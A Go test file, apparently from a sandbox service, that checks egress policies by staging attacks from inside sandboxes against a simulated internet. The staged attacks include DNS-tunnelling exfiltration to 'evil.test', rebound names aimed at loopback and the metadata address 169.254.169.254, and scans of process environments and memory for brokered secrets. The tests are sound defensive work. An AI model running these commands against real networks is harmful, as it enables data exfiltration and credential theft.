@@ -1,0 +1,757 @@
+package hostile
+
+// Egress policies (issue 18): an agent whose sandbox may reach a package
+// mirror and nothing else tries to reach everything else — a denied
+// domain, a denied address, the host's loopback and metadata addresses,
+// another sandbox, data smuggled out in DNS queries of a denied domain —
+// tries to keep a connection past a policy change, and hunts for the
+// secret of a brokered credential. Each attack runs for real from inside a
+// sandbox against an internet the tests stand up (dsectest.Internet: DNS,
+// HTTP, HTTPS and UDP servers in a network namespace the host routes to).
+//
+// Before egress policies a create's policy was not even read: the sandbox
+// had the whole internet (these tests, built against a server of that
+// time, fail at their first denied destination).
+
+import (
+	"context"
+	"crypto/rand"
+	"encoding/binary"
+	"encoding/hex"
+	"fmt"
+	"net"
+	"net/http"
+	"net/netip"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"golang.org/x/net/dns/dnsmessage"
+	"golang.org/x/sys/unix"
+
+	dsecv1 "github.com/opendsec/dsec/api/dsec/v1"
+	"github.com/opendsec/dsec/internal/dsectest"
+	dsec "github.com/opendsec/dsec/sdk/go"
+)
+
+var (
+	egressServer *dsectest.Server
+	inet         *dsectest.Internet
+)
+
+// The brokered secrets: one in the server's configuration (by name), one
+// passed at create.
+const (
+	configSecret = "sk-dsec-configured-5f0e2b7c9d1a4e38"
+	inlineSecret = "sk-dsec-inline-8a3c6e1f0b9d2745"
+)
+
+// The internet's names: the package mirror (web 0), the attacker's
+// domain (web 1), the model API behind the broker (web 2).
+const (
+	mirrorHost = "mirror.pkgs.test"
+	evilHost   = "evil.test"
+	apiHost    = "api.model.test"
+	inlineHost = "inline.model.test"
+)
+
+// egressSrv is a server of its own for these tests: its resolver and
+// trusted CAs are the internet's, and it holds a brokered credential.
+func egressSrv(t *testing.T) (*dsectest.Server, *dsectest.Internet) {
+	t.Helper()
+	if egressServer == nil {
+		dsectest.Need(t)
+		inet = dsectest.StartInternet(shared, 3)
+		for name, web := range map[string]int{mirrorHost: 0, "*." + mirrorHost: 0, evilHost: 1, "*." + evilHost: 1, apiHost: 2, inlineHost: 2} {
+			inet.Set(name, inet.Web[web])
+		}
+		cfg := filepath.Join(shared.TempDir(), "egress.yaml")
+		yaml := fmt.Sprintf("network:\n  credentials:\n    - name: model-api\n      host: %s\n      header: X-Api-Key\n      value: %s\n", apiHost, configSecret)
+		if err := os.WriteFile(cfg, []byte(yaml), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		egressServer = dsectest.Start(shared, dsectest.Options{
+			APIKeys: []string{keyA, keyB},
+			Args:    []string{"--admin-key", keyAdmin, "--dns", inet.DNS.String(), "--egress-ca", inet.CAFile, "--config", cfg},
+		})
+	}
+	return egressServer, inet
+}
+
+func egressClient(t *testing.T, entry string) *dsec.Client {
+	s, _ := egressSrv(t)
+	return dsec.New(s.URL, dsec.WithAPIKey(secret(entry)))
+}
+
+// egressNeighbour is the neighbour (project B, unrestricted egress) on the
+// egress server.
+func egressNeighbour(t *testing.T) *neighbour {
+	t.Helper()
+	nb := &neighbour{sb: create(t, egressClient(t, keyB), dsec.CreateOptions{Network: "egress"})}
+	nb.p50(t)
+	nb.before = nb.p50(t)
+	return nb
+}
+
+// sh runs cmd in sb and returns its stdout and stderr together.
+func sh(t *testing.T, sb *dsec.Sandbox, cmd string) string {
+	t.Helper()
+	r, err := sb.Exec(ctxFor(t, time.Minute), dsec.ExecOptions{Cmd: cmd, Timeout: 30 * time.Second})
+	if err != nil {
+		t.Fatalf("exec %q: %v", cmd, err)
+	}
+	return string(r.Stdout) + string(r.Stderr)
+}
+
+// wget GETs url from inside sb (5 s at most) and returns what came back.
+func wget(t *testing.T, sb *dsec.Sandbox, url string) string {
+	t.Helper()
+	return sh(t, sb, "timeout 5 wget -q -T 3 --no-check-certificate -O - "+url+" 2>&1; echo rc=$?")
+}
+
+// rawGet sends a GET for host to addr:port with nc and returns the answer.
+func rawGet(t *testing.T, sb *dsec.Sandbox, addr string, port int, host string) string {
+	t.Helper()
+	return sh(t, sb, fmt.Sprintf(`printf 'GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' | timeout 5 nc %s %d 2>&1; echo rc=$?`, host, addr, port))
+}
+
+// egressMark is a random label.
+func egressMark(what string) string {
+	b := make([]byte, 6)
+	rand.Read(b)
+	return what + hex.EncodeToString(b)
+}
+
+// networkLog is sb's connection log as lines "verdict protocol address:port host (reason)".
+func networkLog(t *testing.T, sb *dsec.Sandbox) string {
+	t.Helper()
+	r, err := sb.NetworkLog(ctxFor(t, time.Minute), 0)
+	if err != nil {
+		t.Fatalf("network log: %v", err)
+	}
+	var lines []string
+	for _, c := range r.Records {
+		lines = append(lines, fmt.Sprintf("%s %s %s:%d %s (%s)", c.Verdict, c.Protocol, c.Address, c.Port, c.Host, c.Reason))
+	}
+	return strings.Join(lines, "\n")
+}
+
+var mirrorOnly = &dsec.Policy{Allow: []string{mirrorHost, "*." + mirrorHost}}
+
+func TestEgressToADeniedDomainIsRefused(t *testing.T) {
+	_, in := egressSrv(t)
+	nb := egressNeighbour(t)
+	sb := create(t, egressClient(t, keyA), dsec.CreateOptions{Policy: &dsec.Policy{
+		Allow: []string{mirrorHost, "*." + mirrorHost},
+		Deny:  []string{evilHost, "*." + evilHost},
+	}})
+	mirror, evil := in.Web[0].String(), in.Web[1].String()
+
+	t.Run("the package mirror is reachable by name", func(t *testing.T) {
+		if out := wget(t, sb, "http://"+mirrorHost+"/simple/"); !strings.Contains(out, mirror+" "+mirrorHost+" /simple/") {
+			t.Fatalf("wget: %q", out)
+		}
+		if out := wget(t, sb, "https://files."+mirrorHost+"/"); !strings.Contains(out, "files."+mirrorHost) {
+			t.Fatalf("wget over TLS: %q", out)
+		}
+	})
+	t.Run("the denied domain does not resolve", func(t *testing.T) {
+		out := sh(t, sb, "nslookup "+evilHost+" 2>&1; nslookup www."+evilHost+" 2>&1")
+		if strings.Contains(out, evil) {
+			t.Fatalf("resolved: %q", out)
+		}
+	})
+	t.Run("the denied domain is refused by HTTP Host at the mirror's address", func(t *testing.T) {
+		out := rawGet(t, sb, mirror, 80, evilHost)
+		if !strings.Contains(out, " 403 ") || strings.Contains(out, " 200 ") {
+			t.Fatalf("%q", out)
+		}
+	})
+	t.Run("the denied domain is refused by TLS SNI at the mirror's address", func(t *testing.T) {
+		// /etc/hosts points the denied name at the mirror: the name the
+		// TLS client sends decides.
+		sh(t, sb, "echo '"+mirror+" "+evilHost+"' >> /etc/hosts")
+		out := wget(t, sb, "https://"+evilHost+"/")
+		if strings.Contains(out, evilHost+" /") {
+			t.Fatalf("reached: %q", out)
+		}
+	})
+	t.Run("the denied domain's address is unreachable on any port", func(t *testing.T) {
+		for _, port := range []int{80, 443, 8080} {
+			if out := rawGet(t, sb, evil, port, mirrorHost); strings.Contains(out, " 200 ") {
+				t.Errorf("port %d: %q", port, out)
+			}
+		}
+	})
+	t.Run("each attempt is in the connection log", func(t *testing.T) {
+		log := networkLog(t, sb)
+		for _, want := range []string{
+			"allow dns", mirrorHost + " (allow " + mirrorHost + ")",
+			"deny dns", evilHost + " (deny " + evilHost + ")",
+			"deny http " + mirror + ":80 " + evilHost + " (deny " + evilHost + ")",
+			"deny tls " + mirror + ":443 " + evilHost + " (deny " + evilHost + ")",
+			"deny tcp " + evil + ":8080",
+		} {
+			if !strings.Contains(log, want) {
+				t.Errorf("the log lacks %q:\n%s", want, log)
+			}
+		}
+	})
+	inBackground(t, sb, "wget -q -T 1 -O /dev/null http://"+evilHost+"/; nslookup "+egressMark("x")+"."+evilHost)
+	nb.check(t)
+}
+
+func TestEgressToADeniedAddressIsRefused(t *testing.T) {
+	_, in := egressSrv(t)
+	nb := egressNeighbour(t)
+	mirror, evil := in.Web[0], in.Web[1]
+	// Every address of the internet but the attacker's, and a name that
+	// resolves to the attacker's address: a /32 deny beats the pin.
+	in.Set("sneaky."+mirrorHost, evil)
+	defer in.Set("sneaky."+mirrorHost, mirror)
+	sb := create(t, egressClient(t, keyA), dsec.CreateOptions{Policy: &dsec.Policy{
+		Allow: []string{"198.19.0.0/16", "*." + mirrorHost},
+		Deny:  []string{evil.String()},
+	}})
+	t.Run("an allowed address is reachable over TCP and UDP", func(t *testing.T) {
+		if out := rawGet(t, sb, mirror.String(), 8080, "x"); !strings.Contains(out, " 200 ") {
+			t.Fatalf("tcp: %q", out)
+		}
+		m := egressMark("udp-allowed-")
+		sh(t, sb, fmt.Sprintf("echo %s | timeout 2 nc -u -w 1 %s 9999", m, mirror))
+		if !strings.Contains(strings.Join(in.UDP(), "\n"), m) {
+			t.Fatalf("the allowed address did not get the datagram")
+		}
+	})
+	t.Run("the denied address is unreachable over TCP", func(t *testing.T) {
+		for _, port := range []int{22, 80, 443, 8080} {
+			if out := rawGet(t, sb, evil.String(), port, "x"); strings.Contains(out, " 200 ") {
+				t.Errorf("port %d: %q", port, out)
+			}
+		}
+	})
+	m := egressMark("udp-denied-")
+	t.Run("the denied address gets no UDP", func(t *testing.T) {
+		sh(t, sb, fmt.Sprintf("for i in 1 2 3; do echo %s | timeout 2 nc -u -w 1 %s 9999; done", m, evil))
+		time.Sleep(200 * time.Millisecond)
+		if strings.Contains(strings.Join(in.UDP(), "\n"), m) {
+			t.Fatalf("the denied address got a datagram")
+		}
+	})
+	t.Run("an allowed name resolving to the denied address does not open it", func(t *testing.T) {
+		if out := sh(t, sb, "nslookup sneaky."+mirrorHost+" 2>&1"); !strings.Contains(out, evil.String()) {
+			t.Fatalf("the name did not resolve: %q", out)
+		}
+		if out := rawGet(t, sb, evil.String(), 8080, "sneaky."+mirrorHost); strings.Contains(out, " 200 ") {
+			t.Fatalf("reached: %q", out)
+		}
+		if out := wget(t, sb, "http://sneaky."+mirrorHost+"/"); strings.Contains(out, evil.String()+" ") {
+			t.Fatalf("reached through the proxy: %q", out)
+		}
+	})
+	t.Run("each attempt is in the connection log", func(t *testing.T) {
+		log := networkLog(t, sb)
+		for _, want := range []string{
+			fmt.Sprintf("allow udp %s:9999", mirror),
+			fmt.Sprintf("deny udp %s:9999  (deny %s/32)", evil, evil),
+			fmt.Sprintf("deny tcp %s:8080  (deny %s/32)", evil, evil),
+			fmt.Sprintf("deny http %s:80 sneaky.%s", evil, mirrorHost),
+		} {
+			if !strings.Contains(log, want) {
+				t.Errorf("the log lacks %q:\n%s", want, log)
+			}
+		}
+	})
+	inBackground(t, sb, fmt.Sprintf("echo %s | nc -u -w 1 %s 9999; nc -w 1 %s 8080 </dev/null", m, evil, evil))
+	nb.check(t)
+	if strings.Contains(strings.Join(in.UDP(), "\n"), m) {
+		t.Fatalf("the denied address got a datagram during the attack")
+	}
+}
+
+// hostServer serves HTTP with a marker on the host at addr (port 0: any).
+func hostServer(t *testing.T, addr string) (port int, mark string) {
+	t.Helper()
+	mark = egressMark("host-service-")
+	l, err := net.Listen("tcp4", addr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { l.Close() })
+	go http.Serve(l, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprintln(w, mark) }))
+	return l.Addr().(*net.TCPAddr).Port, mark
+}
+
+// gatewayOf is the address of an egress sandbox's gateway (the host).
+func gatewayOf(t *testing.T, sb *dsec.Sandbox) string {
+	t.Helper()
+	out := sh(t, sb, "ip route")
+	f := strings.Fields(out)
+	for i := 0; i+1 < len(f); i++ {
+		if f[i] == "via" {
+			return f[i+1]
+		}
+	}
+	t.Fatalf("no default route: %q", out)
+	return ""
+}
+
+func TestEgressNeverReachesTheHostsLoopbackOrMetadata(t *testing.T) {
+	srv, in := egressSrv(t)
+	nb := egressNeighbour(t)
+	loPort, loMark := hostServer(t, "127.0.0.1:0")
+	anyPort, anyMark := hostServer(t, "0.0.0.0:0")
+	apiPort, _ := strconv.Atoi(srv.Addr[strings.LastIndex(srv.Addr, ":")+1:])
+	// The attacker asks for everything, loopback and link-local included,
+	// and points names of its own at them (DNS rebinding).
+	for name, addr := range map[string]string{"rebind": "127.0.0.1", "metadata": "169.254.169.254"} {
+		in.Set(name+"."+mirrorHost, netip.MustParseAddr(addr))
+		defer in.Set(name+"."+mirrorHost, in.Web[0])
+	}
+	sb := create(t, egressClient(t, keyA), dsec.CreateOptions{Policy: &dsec.Policy{
+		Allow: []string{"0.0.0.0/0", "127.0.0.0/8", "169.254.0.0/16", "10.0.0.0/8", "*"},
+	}})
+	gw := gatewayOf(t, sb)
+	in.Set("gateway."+mirrorHost, netip.MustParseAddr(gw))
+	defer in.Set("gateway."+mirrorHost, in.Web[0])
+	attempts := []struct{ what, cmd string }{
+		{"the host's loopback service", fmt.Sprintf("wget -q -T 2 -O - http://127.0.0.1:%d/", loPort)},
+		{"a host service on every address, at the gateway", fmt.Sprintf("wget -q -T 2 -O - http://%s:%d/", gw, anyPort)},
+		{"the node API, at the gateway", fmt.Sprintf("wget -q -T 2 -O - http://%s:%d/healthz", gw, apiPort)},
+		{"the host's loopback service through a rebound name", fmt.Sprintf("wget -q -T 2 -O - http://rebind.%s:%d/", mirrorHost, loPort)},
+		{"the gateway through a rebound name, port 80", "wget -q -T 2 -O - http://gateway." + mirrorHost + "/"},
+		{"the metadata address", "wget -q -T 2 -O - http://169.254.169.254/latest/meta-data/"},
+		{"the metadata address through a rebound name", "wget -q -T 2 -O - http://metadata." + mirrorHost + "/"},
+	}
+	for _, a := range attempts {
+		t.Run(a.what+" is unreachable", func(t *testing.T) {
+			out := sh(t, sb, "timeout 5 "+a.cmd+" 2>&1; echo rc=$?")
+			if strings.Contains(out, loMark) || strings.Contains(out, anyMark) || strings.Contains(out, "rc=0") {
+				t.Fatalf("reached: %q", out)
+			}
+		})
+	}
+	t.Run("the refusals are in the connection log", func(t *testing.T) {
+		log := networkLog(t, sb)
+		for _, want := range []string{
+			fmt.Sprintf("deny tcp %s:%d  (the host)", gw, anyPort),
+			"deny http 169.254.169.254:80  (link-local)",
+			fmt.Sprintf("deny http %s:80 gateway.%s (the sandbox network)", gw, mirrorHost),
+		} {
+			if !strings.Contains(log, want) {
+				t.Errorf("the log lacks %q:\n%s", want, log)
+			}
+		}
+	})
+	inBackground(t, sb, fmt.Sprintf("wget -q -T 1 -O /dev/null http://%s:%d/; wget -q -T 1 -O /dev/null http://169.254.169.254/", gw, anyPort))
+	nb.check(t)
+}
+
+func TestEgressNeverReachesAnotherSandbox(t *testing.T) {
+	egressSrv(t)
+	nb := egressNeighbour(t)
+	victim := create(t, egressClient(t, keyB), dsec.CreateOptions{Network: "egress"})
+	mark := egressMark("victim-")
+	sh(t, victim, "mkdir -p /tmp/www && echo "+mark+" > /tmp/www/index.html && httpd -p 8080 -h /tmp/www")
+	victimIP := strings.Fields(sh(t, victim, "ip -4 -o addr show eth0"))[3]
+	victimIP = victimIP[:strings.IndexByte(victimIP, '/')]
+	if out := sh(t, victim, "wget -q -O - http://127.0.0.1:8080/"); !strings.Contains(out, mark) {
+		t.Fatalf("the victim's server does not answer itself: %q", out)
+	}
+	for _, c := range []struct {
+		name   string
+		policy *dsec.Policy
+	}{
+		{"with a policy allowing the victim's address", &dsec.Policy{Allow: []string{victimIP, victimIP + "/24", "0.0.0.0/0", "10.0.0.0/8"}}},
+		{"without a policy", nil},
+	} {
+		t.Run("an attacker "+c.name+" does not reach it", func(t *testing.T) {
+			o := dsec.CreateOptions{Network: "egress", Policy: c.policy}
+			attacker := create(t, egressClient(t, keyA), o)
+			// Port 8080 directly; port 80 through the egress proxy when
+			// under a policy.
+			for _, port := range []int{80, 8080} {
+				out := sh(t, attacker, fmt.Sprintf("timeout 5 wget -q -T 2 -O - http://%s:%d/ 2>&1; echo rc=$?", victimIP, port))
+				if strings.Contains(out, mark) {
+					t.Errorf("port %d: reached the victim: %q", port, out)
+				}
+			}
+			if c.policy != nil {
+				log := networkLog(t, attacker)
+				for _, want := range []string{
+					fmt.Sprintf("deny tcp %s:8080  (the sandbox network)", victimIP),
+					fmt.Sprintf("deny http %s:80  (the sandbox network)", victimIP),
+				} {
+					if !strings.Contains(log, want) {
+						t.Errorf("the log lacks %q:\n%s", want, log)
+					}
+				}
+			}
+			inBackground(t, attacker, fmt.Sprintf("wget -q -T 1 -O /dev/null http://%s:8080/", victimIP))
+			nb.check(t)
+		})
+	}
+}
+
+// dnsTCPQuery is a DNS query for name (type TXT) framed for TCP.
+func dnsTCPQuery(t *testing.T, name string) []byte {
+	t.Helper()
+	n, err := dnsmessage.NewName(name + ".")
+	if err != nil {
+		t.Fatal(err)
+	}
+	b := dnsmessage.NewBuilder(nil, dnsmessage.Header{ID: 7, RecursionDesired: true})
+	b.StartQuestions()
+	b.Question(dnsmessage.Question{Name: n, Type: dnsmessage.TypeTXT, Class: dnsmessage.ClassINET})
+	q, err := b.Finish()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return append(binary.BigEndian.AppendUint16(nil, uint16(len(q))), q...)
+}
+
+func TestDNSTunnellingPastADenyRuleNeverLeavesTheNode(t *testing.T) {
+	_, in := egressSrv(t)
+	nb := egressNeighbour(t)
+	// Everything is allowed but the attacker's domain: its names are the
+	// channel (each query carries data to its authoritative server).
+	sb := create(t, egressClient(t, keyA), dsec.CreateOptions{Policy: &dsec.Policy{
+		Allow: []string{"*", "0.0.0.0/0"},
+		Deny:  []string{evilHost, "*." + evilHost},
+	}})
+	var labels []string
+	label := func() string { l := egressMark("secretdata"); labels = append(labels, l); return l }
+	attempts := []struct{ what, cmd string }{
+		{"through the sandbox's resolver", "nslookup " + label() + "." + evilHost},
+		{"in upper case", "nslookup " + strings.ToUpper(label()) + "." + strings.ToUpper(evilHost)},
+		{"as a TXT query", "nslookup -type=txt " + label() + "." + evilHost},
+		{"straight to the domain's own server", "nslookup " + label() + "." + evilHost + " " + in.DNS.String()},
+		{"to another resolver address", "nslookup " + label() + "." + evilHost + " 198.19.200.200"},
+		{"to an address that runs no resolver", "nslookup " + label() + ".deeper.sub." + evilHost + " " + in.Web[0].String()},
+	}
+	for _, a := range attempts {
+		t.Run("a query "+a.what+" is refused", func(t *testing.T) {
+			out := sh(t, sb, "timeout 10 "+a.cmd+" 2>&1; echo rc=$?")
+			if strings.Contains(out, in.Web[1].String()) {
+				t.Fatalf("answered: %q", out)
+			}
+		})
+	}
+	t.Run("a query over TCP is refused", func(t *testing.T) {
+		r, err := sb.Exec(ctxFor(t, time.Minute), dsec.ExecOptions{
+			Cmd: "timeout 5 nc " + in.DNS.String() + " 53 | wc -c", Stdin: dnsTCPQuery(t, label()+"."+evilHost), Timeout: 20 * time.Second,
+		})
+		if err != nil {
+			t.Fatal(err)
+		}
+		t.Logf("answer over TCP: %s bytes", strings.TrimSpace(string(r.Stdout)))
+	})
+	t.Run("no query of the denied domain reached the internet", func(t *testing.T) {
+		asked := strings.Join(in.Queries(), "\n")
+		for _, l := range labels {
+			if strings.Contains(asked, strings.ToLower(l)) {
+				t.Errorf("the domain's server was asked about %s", l)
+			}
+		}
+	})
+	t.Run("allowed names still resolve", func(t *testing.T) {
+		if out := sh(t, sb, "nslookup "+mirrorHost+" 2>&1"); !strings.Contains(out, in.Web[0].String()) {
+			t.Fatalf("%q", out)
+		}
+	})
+	t.Run("the refused queries are in the connection log", func(t *testing.T) {
+		log := networkLog(t, sb)
+		if n := strings.Count(log, "deny dns"); n < len(labels) {
+			t.Errorf("%d denied queries logged, want at least %d:\n%s", n, len(labels), log)
+		}
+	})
+	bg := label()
+	inBackground(t, sb, "nslookup "+bg+"$RANDOM."+evilHost)
+	nb.check(t)
+	if asked := strings.Join(in.Queries(), "\n"); strings.Contains(asked, bg) {
+		t.Errorf("a query of the background attack reached the internet")
+	}
+}
+
+func TestAPolicyChangeAtRuntimeTakesEffectForNewConnections(t *testing.T) {
+	_, in := egressSrv(t)
+	nb := egressNeighbour(t)
+	// The setup phase: the package mirror only.
+	sb := create(t, egressClient(t, keyA), dsec.CreateOptions{Policy: mirrorOnly})
+	mirror := in.Web[0].String()
+	if out := wget(t, sb, "http://"+mirrorHost+"/"); !strings.Contains(out, mirror) {
+		t.Fatalf("setup phase: the mirror: %q", out)
+	}
+	// A connection opened in the setup phase, to be used in the rollout
+	// phase.
+	sh(t, sb, fmt.Sprintf(`sh -c "(sleep 4; printf 'GET /kept HTTP/1.1\r\nHost: x\r\n\r\n'; sleep 3) | nc %s 8080" > /tmp/kept 2>&1 &`, mirror))
+	time.Sleep(time.Second)
+	// The rollout phase: nothing.
+	ctx := ctxFor(t, time.Minute)
+	nw, err := sb.SetNetworkPolicy(ctx, &dsec.Policy{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if nw.Policy == nil || len(nw.Policy.Rules) != 0 {
+		t.Fatalf("SetNetworkPolicy answered %v", nw)
+	}
+	t.Run("the mirror is unreachable by name", func(t *testing.T) {
+		if out := wget(t, sb, "http://"+mirrorHost+"/"); strings.Contains(out, mirror+" ") {
+			t.Fatalf("reached: %q", out)
+		}
+	})
+	t.Run("and by its address, pinned in the setup phase", func(t *testing.T) {
+		if out := rawGet(t, sb, mirror, 8080, mirrorHost); strings.Contains(out, " 200 ") {
+			t.Fatalf("reached: %q", out)
+		}
+	})
+	t.Run("a connection opened before the change is cut", func(t *testing.T) {
+		time.Sleep(6 * time.Second)
+		if out := sh(t, sb, "cat /tmp/kept"); strings.Contains(out, "/kept") {
+			t.Fatalf("the connection carried a request after the change: %q", out)
+		}
+	})
+	t.Run("the policy reads back", func(t *testing.T) {
+		nw, err := sb.NetworkPolicy(ctx)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if nw.Mode != "egress" || nw.Policy == nil || len(nw.Policy.Rules) != 0 {
+			t.Fatalf("network %v", nw)
+		}
+		info, err := egressClient(t, keyA).Get(ctx, sb.ID)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if p := info.Spec.GetNetwork().GetPolicy(); p == nil || len(p.Rules) != 0 {
+			t.Fatalf("GetSandbox's spec says %v", info.Spec.GetNetwork())
+		}
+	})
+	t.Run("another project cannot change it", func(t *testing.T) {
+		_, err := egressClient(t, keyB).Sandbox(sb.ID).SetNetworkPolicy(ctx, nil)
+		if kindOf(err) != "not_found" {
+			t.Fatalf("project B's SetNetworkPolicy: %v", err)
+		}
+		if out := rawGet(t, sb, mirror, 8080, mirrorHost); strings.Contains(out, " 200 ") {
+			t.Fatalf("reached after project B's attempt: %q", out)
+		}
+	})
+	t.Run("a sandbox without egress has no policy to set", func(t *testing.T) {
+		none := create(t, egressClient(t, keyA), dsec.CreateOptions{})
+		if _, err := none.SetNetworkPolicy(ctx, mirrorOnly); kindOf(err) != "invalid" {
+			t.Fatalf("SetNetworkPolicy on a sandbox without egress: %v", err)
+		}
+	})
+	inBackground(t, sb, "wget -q -T 1 -O /dev/null http://"+mirror+":8080/")
+	nb.check(t)
+}
+
+// sandboxPids are the host pids of every process in sb (those in its
+// network namespace).
+func sandboxPids(t *testing.T, srv *dsectest.Server, sb *dsec.Sandbox) []int {
+	t.Helper()
+	var want unix.Stat_t
+	nsPath := netNSOn(t, srv, sb.ID)
+	if err := unix.Stat(nsPath, &want); err != nil {
+		t.Fatal(err)
+	}
+	var pids []int
+	procs, _ := filepath.Glob("/proc/[0-9]*/ns/net")
+	for _, p := range procs {
+		var st unix.Stat_t
+		if unix.Stat(p, &st) == nil && st.Ino == want.Ino && st.Dev == want.Dev {
+			pid, _ := strconv.Atoi(strings.Split(p, "/")[2])
+			pids = append(pids, pid)
+		}
+	}
+	if len(pids) == 0 {
+		t.Fatalf("no process of %s found", sb.ID)
+	}
+	return pids
+}
+
+// netNSOn is sandboxNetNS for a server other than the shared one.
+func netNSOn(t *testing.T, srv *dsectest.Server, id string) string {
+	t.Helper()
+	var node int
+	tasks, _ := filepath.Glob(fmt.Sprintf("/proc/%d/task/*/children", srv.Pid()))
+	for _, task := range tasks {
+		b, _ := os.ReadFile(task)
+		if f := strings.Fields(string(b)); len(f) > 0 {
+			node, _ = strconv.Atoi(f[0])
+			break
+		}
+	}
+	m, _ := filepath.Glob(fmt.Sprintf("/proc/%d/root/run/dsec/*/netns/%s", node, id))
+	if len(m) != 1 {
+		t.Fatalf("network namespace of %s: found %v", id, m)
+	}
+	return m[0]
+}
+
+// memoryHolds reports whether any readable, writable mapping of pid holds
+// needle.
+func memoryHolds(pid int, needle []byte) (bool, error) {
+	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
+	if err != nil {
+		return false, err
+	}
+	mem, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
+	if err != nil {
+		return false, err
+	}
+	defer mem.Close()
+	re := regexp.MustCompile(`^([0-9a-f]+)-([0-9a-f]+) (r.)`)
+	for _, line := range strings.Split(string(maps), "\n") {
+		m := re.FindStringSubmatch(line)
+		if m == nil {
+			continue
+		}
+		start, _ := strconv.ParseUint(m[1], 16, 64)
+		end, _ := strconv.ParseUint(m[2], 16, 64)
+		if end-start > 256<<20 || strings.Contains(line, "[vvar]") {
+			continue
+		}
+		buf := make([]byte, end-start)
+		n, _ := mem.ReadAt(buf, int64(start))
+		if strings.Contains(string(buf[:n]), string(needle)) {
+			return true, nil
+		}
+	}
+	return false, nil
+}
+
+func TestABrokeredSecretNeverEntersTheSandbox(t *testing.T) {
+	srv, in := egressSrv(t)
+	nb := egressNeighbour(t)
+	sb := create(t, egressClient(t, keyA), dsec.CreateOptions{Policy: &dsec.Policy{
+		Allow: []string{mirrorHost},
+		Credentials: []dsec.Credential{
+			{Name: "model-api"},
+			{Host: inlineHost, Header: "X-Inline-Key", Value: inlineSecret},
+		},
+	}})
+	secrets := []string{configSecret, inlineSecret}
+	// A process that keeps what it fetched in its memory, and a file.
+	sh(t, sb, "sh -c 'a=$(wget -q -O - http://"+apiHost+"/headers); b=$(wget -q -O - http://"+inlineHost+"/headers); echo \"$a$b\" > /tmp/answers; sleep 300' >/dev/null 2>&1 &")
+	for i := 0; i < 50 && !strings.Contains(sh(t, sb, "cat /tmp/answers 2>/dev/null"), "X-Inline-Key"); i++ {
+		time.Sleep(100 * time.Millisecond)
+	}
+	answers := sh(t, sb, "cat /tmp/answers")
+	t.Run("the model API got each credential", func(t *testing.T) {
+		var got []string
+		for _, h := range in.Headers() {
+			got = append(got, h.Get("X-Api-Key"), h.Get("X-Inline-Key"))
+		}
+		for _, s := range secrets {
+			if !strings.Contains(strings.Join(got, " "), s) {
+				t.Errorf("the upstream never got %s...: %q", s[:10], got)
+			}
+		}
+	})
+	t.Run("the answers the sandbox got show them masked", func(t *testing.T) {
+		if !strings.Contains(answers, "X-Api-Key: "+strings.Repeat("*", len(configSecret))) || !strings.Contains(answers, "X-Inline-Key: *") {
+			t.Fatalf("answers %q", answers)
+		}
+	})
+	t.Run("no file, environment or command line inside holds them", func(t *testing.T) {
+		var pattern []string
+		for _, s := range secrets {
+			pattern = append(pattern, "-e "+s)
+		}
+		p := strings.Join(pattern, " ")
+		out := sh(t, sb, "env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n'; "+
+			"for d in /bin /etc /home /root /tmp /usr /var /opt /srv /mnt /run /lib /sbin /dev/shm; do grep -r -l -F "+p+" $d 2>/dev/null; done; echo scanned")
+		for _, s := range secrets {
+			if strings.Contains(out, s) {
+				t.Errorf("found %s... inside: %q", s[:10], out)
+			}
+		}
+		if !strings.Contains(out, "scanned") {
+			t.Fatalf("the scan did not finish: %q", out)
+		}
+	})
+	t.Run("no process inside holds them in memory", func(t *testing.T) {
+		pids := sandboxPids(t, srv, sb)
+		for _, pid := range pids {
+			for _, s := range secrets {
+				found, err := memoryHolds(pid, []byte(s))
+				if err != nil {
+					continue // exited meanwhile
+				}
+				if found {
+					cmd, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
+					t.Errorf("process %d (%q) holds %s...", pid, cmd, s[:10])
+				}
+			}
+		}
+		t.Logf("scanned the memory of %d processes", len(pids))
+		// The scan finds what is there: the masked answer.
+		found := false
+		for _, pid := range pids {
+			if ok, _ := memoryHolds(pid, []byte("X-Inline-Key: *")); ok {
+				found = true
+			}
+		}
+		if !found {
+			t.Errorf("the scan found not even the masked answer: it does not work")
+		}
+	})
+	t.Run("the API never answers them", func(t *testing.T) {
+		ctx := ctxFor(t, time.Minute)
+		c := egressClient(t, keyA)
+		info, err := c.Get(ctx, sb.ID)
+		if err != nil {
+			t.Fatal(err)
+		}
+		nw, err := sb.NetworkPolicy(ctx)
+		if err != nil {
+			t.Fatal(err)
+		}
+		list, err := c.List(ctx, "")
+		if err != nil {
+			t.Fatal(err)
+		}
+		all := fmt.Sprint(info, nw, list)
+		for _, s := range secrets {
+			if strings.Contains(all, s) {
+				t.Errorf("an answer holds %s...", s[:10])
+			}
+		}
+		if !strings.Contains(all, inlineHost) || !strings.Contains(all, "model-api") {
+			t.Errorf("the answers do not name the credentials: %s", all)
+		}
+	})
+	t.Run("the credential goes to its host only", func(t *testing.T) {
+		before := len(in.Headers())
+		// Another host on the brokered connection, the host over TLS
+		// (not brokered: no credential), a name of no rule.
+		out := sh(t, sb, fmt.Sprintf(`printf 'GET /headers HTTP/1.1\r\nHost: %s\r\n\r\nGET /headers HTTP/1.1\r\nHost: %s\r\n\r\n' | timeout 5 nc %s 80; `+
+			`timeout 5 wget -q -T 2 --no-check-certificate -O - https://%s/headers; echo rc=$?`, apiHost, evilHost, in.Web[2], apiHost))
+		if !strings.Contains(out, " 403 ") {
+			t.Errorf("a second host on a brokered connection was not refused: %q", out)
+		}
+		for _, h := range in.Headers()[before+1:] {
+			if h.Get("X-Api-Key") != "" {
+				t.Errorf("a request other than the brokered one carried the credential: %v", h)
+			}
+		}
+	})
+	t.Run("an unknown named credential is refused", func(t *testing.T) {
